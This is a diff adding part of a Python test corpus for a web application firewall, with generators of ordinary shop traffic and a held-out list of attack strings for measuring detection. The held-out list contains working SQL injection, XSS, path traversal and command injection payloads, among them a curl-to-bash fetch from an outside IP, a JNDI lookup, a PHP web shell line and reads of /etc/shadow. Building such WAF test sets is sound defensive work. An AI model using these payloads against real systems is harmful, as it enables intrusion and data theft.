+        "address1": "Flat 3, 27 King's Road",
+        "city": "London",
+        "postcode": "SW3 4RP",
+        "country": "GB",
+    },
+    {"card_name": "J DOE", "exp": "04/27", "save": "1"},
+)
+
+REFERERS = (
+    "https://www.google.com/",
+    "https://shop.example.com/products?page=2&sort=price",
+    "https://www.bing.com/search?q=espresso+machine+review",
+    "https://t.co/AbC123xyz",
+    "https://shop.example.com/search?q=O%27Reilly+books",
+)
+
+
+def benign() -> list[CorpusRequest]:
+    """What a real site sees, in a fixed order (several hundred requests)."""
+    out: list[CorpusRequest] = []
+    uas = BROWSER_UAS
+    for i, p in enumerate(PAGES):
+        h = _headers(
+            ua=uas[i % len(uas)],
+            Cookie=COOKIES[i % len(COOKIES)],
+            Referer=REFERERS[i % len(REFERERS)],
+        )
+        out.append(CorpusRequest("benign", "GET", p, "", h, None, "page"))
+        out.append(
+            CorpusRequest(
+                "benign",
+                "GET",
+                p,
+                (
+                    "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale"
+                    if i % 2
+                    else "ref=home&page=2"
+                ),
+                _headers(ua=uas[(i + 3) % len(uas)]),
+                None,
+                "page with tracking",
+            )
+        )
+    for i, a in enumerate(ASSETS):
+        h = _headers(ua=uas[i % len(uas)], Accept="*/*", Referer="https://shop.example.com/")
+        out.append(
+            CorpusRequest("benign", "GET", a, "v=3f9a1c" if i % 3 == 0 else "", h, None, "asset")
+        )
+        out.append(CorpusRequest("benign", "HEAD", a, "", h, None, "asset head"))
+    for i, s in enumerate(SEARCHES):
+        h = _headers(ua=uas[i % len(uas)], Cookie=COOKIES[(i + 1) % len(COOKIES)])
+        out.append(
+            CorpusRequest("benign", "GET", "/search", urlencode({"q": s}), h, None, f"search: {s}")
+        )
+        out.append(
+            CorpusRequest(
+                "benign",
+                "GET",
+                "/search",
+                f"q={quote(s)}&page={i % 5 + 1}&sort=relevance",
+                h,
+                None,
+                f"search %20: {s}",
+            )
+        )
+        out.append(
+            CorpusRequest(
+                "benign",
+                "GET",
+                "/api/suggest",
+                urlencode({"term": s[: max(3, len(s) // 2)], "limit": "8"}),
+                _headers(ua=uas[(i + 2) % len(uas)], Accept="application/json"),
+                None,
+                f"suggest: {s}",
+            )
+        )
+    for i, c in enumerate(COMMENTS):
+        fields = {
+            "product_id": str(100 + i),
+            "rating": str(i % 5 + 1),
+            "comment": c,
+            "name": ("Jane", "Bob O'Hara", "Zoë", "李雷")[i % 4],
+        }
+        out.append(
+            _form("benign", "/products/reviews", fields, "review form", ua=uas[i % len(uas)])
+        )
+        out.append(
+            _json(
+                "benign",
+                "/api/comments",
+                {"thread": i, "text": c, "reply_to": None},
+                "comment json",
+                ua=uas[(i + 1) % len(uas)],
+            )
+        )
+        out.append(
+            _form(
+                "benign",
+                "/contact",
+                {"name": "Sam Lee", "email": "sam@example.org", "message": c},
+                "contact form",
+                ua=uas[(i + 4) % len(uas)],
+            )
+        )
+    for i, d in enumerate(API_DOCS):
+        out.append(
+            _json(
+                "benign",
+                f"/api/v2/{('search', 'cart', 'login', 'profile', 'reviews', 'events')[i % 6]}",
+                d,
+                "json api",
+                ua=uas[i % len(uas)],
+            )
+        )
+        out.append(
+            _json(
+                "benign",
+                "/api/v2/batch",
+                [d, {"op": "noop"}],
+                "json api batch",
+                ua=uas[(i + 5) % len(uas)],
+            )
+        )
+    for i, f in enumerate(FORMS):
+        out.append(
+            _form(
+                "benign",
+                (
+                    "/contact",
+                    "/login",
+                    "/search",
+                    "/account/profile",
+                    "/checkout/address",
+                    "/checkout/payment",
+                )[i],
+                f,
+                "form",
+                ua=uas[i % len(uas)],
+            )
+        )
+    for i in range(40):
+        h = _headers(
+            ua=uas[i % len(uas)],
+            Accept="application/json",
+            Authorization=f"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLSR7aX0ifQ.sig{i:04d}",
+        )
+        q = urlencode(
+            {
+                "page": str(i % 7 + 1),
+                "per_page": "24",
+                "fields": "id,name,price",
+                "filter[category]": ("coffee", "tea", "kitchen")[i % 3],
+                "include": "images,variants",
+            }
+        )
+        out.append(
+            CorpusRequest(
+                "benign",
+                "GET",
+                f"/api/v2/products/{1000 + i}",
+                q if i % 2 else "",
+                h,
+                None,
+                "api get",
+            )
+        )
+    for i in range(12):
+        out.append(
+            CorpusRequest(
+                "benign",
+                ("PUT", "PATCH", "DELETE", "OPTIONS")[i % 4],
+                f"/api/v2/cart/items/{i}",
+                "",
+                {
+                    **_headers(ua=uas[i % len(uas)]),
+                    "Content-Type": "application/json",
+                    "Content-Length": "2",
+                },
+                b"{}" if i % 4 < 2 else None,
+                "api verbs",
+            )
+        )
+    return out
+
+
+def evaluate(engine: WafEngine, r: CorpusRequest, now: float = 0.0) -> WafVerdict:
+    """Run `r` through both phases of `engine`, as the edge stage does (no sockets)."""
+    req = WafRequest.build(r.method, r.path, r.query, r.headers, "198.51.100.23")
+    state = engine.start()
+    verdict = engine.evaluate(req, "headers", now, state)
+    if verdict.final:
+        return verdict
+    if r.body is not None:
+        req.set_body(r.body, truncated=False)
+    return engine.evaluate(req, "body", now, state)
+
+
+# -- held out: written after the rules were tuned, never used to tune them ----------------------
+
+HELDOUT_ATTACKS: tuple[tuple[str, str], ...] = (
+    ("sqli", "1' oR 2>1 oR '"),
+    ("sqli", "-1' UNION(SELECT(1),(2),(3))#"),
+    ("sqli", "1 AND 5646=CAST((CHR(113)||CHR(106)) AS NUMERIC)"),
+    ("sqli", "1);SELECT PG_SLEEP(5)--"),
+    ("sqli", "' AND 3580=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND 'a'='a"),
+    ("sqli", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
+    ("sqli", 'admin")-- -'),
+    (
+        "sqli",
+        "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))--",
+    ),
+    ("sqli", "' OR EXISTS(SELECT * FROM users WHERE name='admin' AND password LIKE '%a%')--"),
+    ("sqli", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
+    ("sqli", "';SHUTDOWN--"),
+    ("sqli", "1' UNION SELECT NULL,table_name FROM all_tables--"),
+    ("xss", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>'),
+    ("xss", "<img src=1 onerror=window['al'+'ert'](1)>"),
+    ("xss", "<audio src onloadstart=alert(1)>"),
+    ("xss", '"><svg/onload=confirm`1`>'),
+    ("xss", "<x contenteditable onblur=alert(1)>lose focus!"),
+    ("xss", '<iframe/src="data:text/html,<svg onload=alert(1)>">'),
+    ("xss", "<a href=javas&#99;ript:alert(1)>x"),
+    ("xss", "<style>@import'//evil.example/x.css';</style>"),
+    ("xss", "<select autofocus onfocus=alert(1)>"),
+    ("xss", "'-confirm(1)-'"),
+    ("xss", "<keygen autofocus onfocus=alert(1)>"),
+    ("xss", "<textarea autofocus onfocus=alert(1)>"),
+    ("lfi", "../../../../../../../../../../boot.ini"),
+    ("lfi", "..%c0%af..%c0%af..%c0%afetc/passwd"),
+    ("lfi", "/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
+    ("lfi", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
+    ("lfi", "/proc/self/fd/2"),
+    ("lfi", "php://filter/resource=/etc/passwd"),
+    ("lfi", "file:///c:/windows/win.ini"),
+    ("lfi", "../../../../etc/passwd%00"),
+    ("lfi", "/var/www/../../etc/shadow"),
+    ("lfi", "..././..././..././etc/passwd"),
+    ("lfi", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
+    ("lfi", "http://10.0.0.5:8080/admin"),
+    ("rce", "|cat /etc/shadow"),
+    ("rce", "a%0aid"),
+    ("rce", ";curl -s http://203.0.113.9/x|bash"),
+    ("rce", "$(nslookup x.oast.example)"),
+    ("rce", "& whoami &"),
+    ("rce", "`sleep 5`"),
+    ("rce", "; ls -la /"),
+    ("rce", "<?php passthru($_REQUEST['x']); ?>"),
+    ("rce", "${jndi:rmi://203.0.113.9:1099/obj}"),
+    ("rce", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
+    ("rce", "'; exec('id') #"),
+    ("rce", "|| ping -n 3 127.0.0.1 ||"),
+)
+
+HELDOUT_BENIGN: tuple[str, ...] = (
+    "rock & roll hall of fame",
+    "don't stop me now -- queen",
+    "2 > 1 and 3 < 4",
+    '"to be or not to be"',
+    "select all that apply",
+    "AND/OR operators in excel",
+    "how to cat a file in linux",
+    "the id of the user",
+    "mother's day gifts for her (under £30)",
+    "#1 best seller",
+    "email me at bob@example.org; thanks",
+    "c:\\program files\\app",
+    "1,2,3,4",
+    "50% OFF!!! -- ends sunday",
+    "what does 'echo' mean",
+    'where\'s the "on/off" switch?',
+    "R&D budget 2024",
+    "(555) 123-4567",
+    "it's 5 o'clock somewhere",
+    "script for a wedding speech",
+    "insert into a blog post",
+    "rm -rf meaning",
+    "/usr/bin/env python",
+    "pg 12-14 of the manual",
+    "../ means parent directory",
+    "union station chicago",
+    "alert dialogs in android",
+    "sleep(1) in python",
+    "java script tutorial for beginners",
+    "onboarding checklist",
+)
+
+
+def heldout_attacks() -> list[CorpusRequest]:
+    """Held-out attacks, each as a URL-encoded query value and as a form field."""
+    out: list[CorpusRequest] = []
+    for cat, p in HELDOUT_ATTACKS:
+        out.append(
+            CorpusRequest(
+                cat,
+                "GET",
+                "/search",
+                f"v={quote(p, safe='')}",
+                _headers(),
+                None,
+                f"held-out query: {p}",
+            )
+        )
+        out.append(_form(cat, "/submit", {"v": p}, f"held-out form: {p}"))
+    return out
+
+
+def heldout_benign() -> list[CorpusRequest]:
+    """Held-out benign searches and form posts."""
+    out: list[CorpusRequest] = []
+    for p in HELDOUT_BENIGN:
+        out.append(
+            CorpusRequest(
+                "benign",
+                "GET",
+                "/search",
+                urlencode({"q": p}),
+                _headers(),
+                None,
+                f"held-out search: {p}",
+            )
+        )
+        out.append(_form("benign", "/contact", {"message": p}, f"held-out form: {p}"))
+    return out
